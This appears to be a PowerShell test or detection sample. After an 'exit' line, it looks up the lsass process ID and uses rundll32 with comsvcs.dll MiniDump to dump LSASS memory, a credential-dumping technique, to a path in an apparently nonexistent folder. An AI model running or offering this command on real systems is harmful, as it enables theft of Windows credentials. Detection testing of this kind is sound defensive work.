exit
$id = (Get-Process lsass).Id
rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump $id C:\nonexistent\l.dmp full
